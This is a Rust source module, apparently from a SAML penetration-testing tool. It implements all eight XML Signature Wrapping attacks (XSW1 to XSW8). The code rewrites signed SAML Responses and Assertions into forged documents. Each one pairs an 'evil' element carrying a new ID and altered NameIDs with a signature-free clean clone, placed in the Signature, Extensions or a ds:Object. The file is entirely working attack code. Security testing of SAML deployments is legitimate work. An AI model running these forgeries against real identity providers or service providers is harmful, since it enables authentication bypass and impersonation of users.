//! XML Signature Wrapping (XSW) attacks.
//!
//! XSW1 and XSW2 duplicate the signed Response, XSW3 to XSW8 duplicate the
//! first Assertion. Every variant builds a new document; the input is never
//! modified and a failure leaves nothing half-built behind.

use std::fmt;
use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use tracing::debug;

use crate::saml::{
    AttackError,
    editor::{mark_evil, set_id, strip_signatures},
    locator::{ElementKind, ElementSpan, locate},
    markers::{EVIL_ASSERTION_ID, EVIL_RESPONSE_ID},
};

static RESPONSE_CLOSE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)</([a-zA-Z0-9]*:)?Response>").expect("Invalid regex pattern for Response")
});

/// Outcome of an attack: the attacked document or the reason it could not be built
pub type AttackResult = Result<String, AttackError>;

/// One of the eight XSW document shapes
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "i64", into = "i64")]
pub enum XswVariant {
    Xsw1 = 1,
    Xsw2 = 2,
    Xsw3 = 3,
    Xsw4 = 4,
    Xsw5 = 5,
    Xsw6 = 6,
    Xsw7 = 7,
    Xsw8 = 8,
}

impl XswVariant {
    pub const ALL: [XswVariant; 8] = [
        XswVariant::Xsw1,
        XswVariant::Xsw2,
        XswVariant::Xsw3,
        XswVariant::Xsw4,
        XswVariant::Xsw5,
        XswVariant::Xsw6,
        XswVariant::Xsw7,
        XswVariant::Xsw8,
    ];

    pub fn number(&self) -> u8 {
        *self as u8
    }

    /// Short human readable summary of the document shape
    pub fn description(&self) -> &'static str {
        match self {
            XswVariant::Xsw1 => "Evil Response, clean Response clone nested inside the Signature",
            XswVariant::Xsw2 => "Evil Response, clean Response clone placed before the Signature",
            XswVariant::Xsw3 => "Evil Assertion inserted before the original Assertion",
            XswVariant::Xsw4 => "Evil Assertion wrapping the original Assertion",
            XswVariant::Xsw5 => "Original Assertion made evil, clean clone appended to the Response",
            XswVariant::Xsw6 => "Original Assertion made evil, clean clone nested inside the Signature",
            XswVariant::Xsw7 => "Evil Assertion wrapped in Extensions before the original Assertion",
            XswVariant::Xsw8 => "Original Assertion made evil, clean clone in a Signature Object",
        }
    }

    /// Applies this variant to `xml`.
    pub fn apply(self, xml: &str) -> AttackResult {
        debug!("Applying {self} to a {} byte document", xml.len());
        let result = match self {
            XswVariant::Xsw1 => xsw1(xml),
            XswVariant::Xsw2 => xsw2(xml),
            XswVariant::Xsw3 => xsw3(xml),
            XswVariant::Xsw4 => xsw4(xml),
            XswVariant::Xsw5 => xsw5(xml),
            XswVariant::Xsw6 => xsw6(xml),
            XswVariant::Xsw7 => xsw7(xml),
            XswVariant::Xsw8 => xsw8(xml),
        };
        if let Err(error) = &result {
            debug!("{self} not applicable: {error}");
        }
        result
    }
}

impl fmt::Display for XswVariant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "XSW{}", self.number())
    }
}

impl TryFrom<i64> for XswVariant {
    type Error = AttackError;

    fn try_from(value: i64) -> Result<Self, Self::Error> {
        match value {
            1..=8 => Ok(XswVariant::ALL[(value - 1) as usize]),
            _ => Err(AttackError::InvalidVariant(value)),
        }
    }
}

impl From<XswVariant> for i64 {
    fn from(variant: XswVariant) -> Self {
        variant.number() as i64
    }
}

/// Applies XSW `variant` (1 to 8) to `xml`.
pub fn apply_xsw(xml: &str, variant: i64) -> AttackResult {
    XswVariant::try_from(variant)?.apply(xml)
}

fn xsw1(xml: &str) -> AttackResult {
    let response = locate(ElementKind::Response, xml).ok_or(AttackError::MissingResponse)?;
    if locate(ElementKind::Signature, xml).is_none() {
        return Err(AttackError::MissingSignature(XswVariant::Xsw1));
    }

    let clone = strip_signatures(response.raw);
    let evil_response = set_id(&mark_evil(response.raw), EVIL_RESPONSE_ID);

    let signature =
        locate(ElementKind::Signature, &evil_response).ok_or(AttackError::SignatureLost)?;
    let evil_response = insert_before_close(&evil_response, &signature, &clone);

    Ok(splice(xml, response.start, response.end, &evil_response))
}

fn xsw2(xml: &str) -> AttackResult {
    let response = locate(ElementKind::Response, xml).ok_or(AttackError::MissingResponse)?;
    if locate(ElementKind::Signature, xml).is_none() {
        return Err(AttackError::MissingSignature(XswVariant::Xsw2));
    }

    let clone = strip_signatures(response.raw);

    let marked = mark_evil(xml);
    let evil = locate(ElementKind::Response, &marked).ok_or(AttackError::MissingResponse)?;
    let document = splice(
        &marked,
        evil.start,
        evil.end,
        &set_id(evil.raw, EVIL_RESPONSE_ID),
    );

    let signature = locate(ElementKind::Signature, &document).ok_or(AttackError::SignatureLost)?;
    Ok(splice(&document, signature.start, signature.start, &clone))
}

fn xsw3(xml: &str) -> AttackResult {
    let assertion = locate(ElementKind::Assertion, xml).ok_or(AttackError::MissingAssertion)?;
    let evil = evil_assertion(assertion.raw);
    Ok(splice(xml, assertion.start, assertion.start, &evil))
}

fn xsw4(xml: &str) -> AttackResult {
    let assertion = locate(ElementKind::Assertion, xml).ok_or(AttackError::MissingAssertion)?;
    let evil = evil_assertion(assertion.raw);

    // the evil copy still ends with the assertion's own closing tag
    let close = evil.rfind("</").unwrap_or(evil.len());
    let wrapped = splice(&evil, close, close, assertion.raw);

    Ok(splice(xml, assertion.start, assertion.end, &wrapped))
}

fn xsw5(xml: &str) -> AttackResult {
    let assertion = locate(ElementKind::Assertion, xml).ok_or(AttackError::MissingAssertion)?;
    let clone = strip_signatures(assertion.raw);
    let document = evil_in_place(xml, &assertion);

    let close_tag = RESPONSE_CLOSE
        .find(&document)
        .ok_or(AttackError::MissingResponseClose)?;
    let at = document
        .rfind(close_tag.as_str())
        .unwrap_or(close_tag.start());

    Ok(splice(&document, at, at, &clone))
}

fn xsw6(xml: &str) -> AttackResult {
    let assertion = locate(ElementKind::Assertion, xml).ok_or(AttackError::MissingAssertion)?;
    if locate(ElementKind::Signature, xml).is_none() {
        return Err(AttackError::MissingSignature(XswVariant::Xsw6));
    }

    let clone = strip_signatures(assertion.raw);
    let document = evil_in_place(xml, &assertion);

    let signature = locate(ElementKind::Signature, &document).ok_or(AttackError::SignatureLost)?;
    Ok(insert_before_close(&document, &signature, &clone))
}

fn xsw7(xml: &str) -> AttackResult {
    let assertion = locate(ElementKind::Assertion, xml).ok_or(AttackError::MissingAssertion)?;
    let extensions = format!("<Extensions>{}</Extensions>", evil_assertion(assertion.raw));
    Ok(splice(xml, assertion.start, assertion.start, &extensions))
}

fn xsw8(xml: &str) -> AttackResult {
    let assertion = locate(ElementKind::Assertion, xml).ok_or(AttackError::MissingAssertion)?;
    if locate(ElementKind::Signature, xml).is_none() {
        return Err(AttackError::MissingSignature(XswVariant::Xsw8));
    }

    let object = format!("<ds:Object>{}</ds:Object>", strip_signatures(assertion.raw));
    let document = evil_in_place(xml, &assertion);

    let signature = locate(ElementKind::Signature, &document).ok_or(AttackError::SignatureLost)?;
    Ok(insert_before_close(&document, &signature, &object))
}

/// Signature-free copy of an assertion with the evil ID and marked NameIDs
fn evil_assertion(assertion: &str) -> String {
    mark_evil(&set_id(&strip_signatures(assertion), EVIL_ASSERTION_ID))
}

/// Rewrites the located assertion's ID in place, then marks every NameID of
/// the document.
fn evil_in_place(xml: &str, assertion: &ElementSpan<'_>) -> String {
    let document = splice(
        xml,
        assertion.start,
        assertion.end,
        &set_id(assertion.raw, EVIL_ASSERTION_ID),
    );
    mark_evil(&document)
}

/// Inserts `content` right before the closing tag of `element`, which must
/// have been located in `text`.
fn insert_before_close(text: &str, element: &ElementSpan<'_>, content: &str) -> String {
    let at = element.close_start();
    splice(text, at, at, content)
}

/// Replaces `text[start..end]` with `replacement`.
fn splice(text: &str, start: usize, end: usize, replacement: &str) -> String {
    let mut result = String::with_capacity(text.len() - (end - start) + replacement.len());
    result.push_str(&text[..start]);
    result.push_str(replacement);
    result.push_str(&text[end..]);
    result
}
